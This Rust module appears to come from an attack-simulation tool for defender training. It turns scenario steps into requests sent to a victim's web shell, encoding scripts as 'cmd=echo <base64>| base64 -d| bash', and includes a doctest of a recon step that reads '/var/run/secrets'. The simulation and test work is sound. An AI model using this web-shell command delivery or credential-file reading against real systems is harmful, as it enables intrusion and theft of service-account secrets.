//! Turns a step into the request that the attacker sends to the victim's web shell.
//!
//! A script is sent in the same way as by the original: base64 in the query of one request, decoded into a bash. That
//! bash runs it unchanged and does nothing else. The victim's gate observes exit status and standard error from outside
//! and reports them ([`super::proof`] parses the report). Standard output is discarded, since a token would be there.

use base64::Engine;
use base64::engine::general_purpose::STANDARD;

use super::{Action, Step};

#[cfg(test)]
#[path = "../../tests/support/nasty.rs"]
mod nasty;

/// First word of every line of the protocol between the pods and this program. The victim's host name follows.
pub const MARK: &str = "defender-sim/2";
/// Maximum size of a request line: nginx refuses longer ones (`large_client_header_buffers`, 8 KiB by default).
pub const MAX_REQUEST_LINE: usize = 8 * 1024;

/// Returns the text that bash reads in the victim for a step.
///
/// bash reads it from standard input, so the script is an argument of `eval`: otherwise a program that reads its
/// standard input would consume the rest of the script.
///
/// ```
/// # use defender_sim::scenario::{catalogue, payload};
/// let step = &catalogue::find("recon").unwrap().steps[0];
/// assert!(payload::victim_script(step.text()).contains("cat /var/run/secrets"));
/// ```
pub fn victim_script(script: &str) -> String {
    let end = if script.ends_with('\n') { "" } else { "\n" };
    format!("</dev/null eval {}\n", quoted(&format!("{script}{end}")))
}

/// Quotes any text as one word of a shell.
pub fn quoted(text: &str) -> String {
    format!("'{}'", text.replace('\'', r"'\''"))
}

/// Returns the query of the request for a step with this ID, as `attack.sh` composes it, before percent-encoding, or
/// `None` for a step that does not run in the victim.
pub fn query(id: &str, step: &Step) -> Option<String> {
    match step.action() {
        Action::Script(script) => Some(format!(
            "cmd=echo {}| base64 -d| bash",
            STANDARD.encode(victim_script(script))
        )),
        Action::Command(command) => Some(format!("cmd={}", command.run.trim())),
        Action::Visit => Some(format!("visit={id}")),
        Action::Request(_) => None,
    }
}

/// Returns the size in bytes of the request line that carries `script`, in the worst case. The line has the script as
/// base64 inside `cmd=echo ...| base64 -d| bash`, percent-encoded by curl.
pub fn request_line_length(script: &str) -> usize {
    let base64 = script.len().div_ceil(3) * 4;
    // Of the base64 alphabet, only `+`, `/` and `=` are escaped (3 bytes instead of 1). A share of 1 in 16 for each of
    // them is far above that of any text.
    let escaped = base64 + base64 / 8 * 2;
    escaped + "GET /ws.php?cmd=echo%20%7C%20base64%20-d%7C%20bash HTTP/1.1\r\n".len()
}

#[cfg(test)]
mod tests {
    use std::process::{Command, Stdio};

    use super::*;
    use crate::scenario::catalogue;

    fn step(script: &str) -> Step {
        Step {
            script: Some(script.into()),
            ..catalogue::find("recon").unwrap().steps[0].clone()
        }
    }

    /// Returns exit status and standard error of `sh -c COMMAND`, as the gate observes them.
    fn observe(command: &str) -> (Option<i32>, String) {
        let output = Command::new("sh")
            .args(["-c", command])
            .stdin(Stdio::null())
            .output()
            .unwrap();
        (
            output.status.code(),
            String::from_utf8_lossy(&output.stderr).into_owned(),
        )
    }

    #[test]
    fn scripts_run_as_written() {
        let folder = tempfile::tempdir().unwrap();
        let file = folder.path().join("a.script");
        let mut different = vec![];
        for script in nasty::SCRIPTS {
            std::fs::write(&file, script).unwrap();
            let direct = observe(&format!("bash {}; exit $?", file.display()));
            let query = query("demo.step", &step(script)).unwrap();
            let sent = observe(query.strip_prefix("cmd=").unwrap());
            if (direct.0, nasty::last_line(&direct.1)) != (sent.0, nasty::last_line(&sent.1)) {
                different.push((script, direct, sent));
            }
        }
        assert!(different.is_empty(), "{different:#?}");
        let first = query("demo.step", &step(nasty::SCRIPTS[0])).unwrap();
        assert_eq!(observe(first.strip_prefix("cmd=").unwrap()).0, Some(7));
    }

    /// A known difference: after `declare -i` fails, bash continues with the next line of a file, but not in `eval`.
    #[test]
    fn scripts_end_at_an_arithmetic_error_of_declare_and_fail() {
        let query = query("demo.step", &step("declare -i x=08\nexit 0\n")).unwrap();
        assert_eq!(observe(query.strip_prefix("cmd=").unwrap()).0, Some(1));
    }

    #[test]
    fn quoted_text_is_one_word_of_a_shell() {
        for text in ["", "'", "''", "a'b\n", "\\'", "$x `y` \"z\" !", "\r\t\u{7f}é"] {
            let output = Command::new("sh")
                .args(["-c", &format!("printf %s {}", quoted(text))])
                .output()
                .unwrap();
            assert_eq!(String::from_utf8(output.stdout).unwrap(), text, "{text:?}");
        }
    }
}
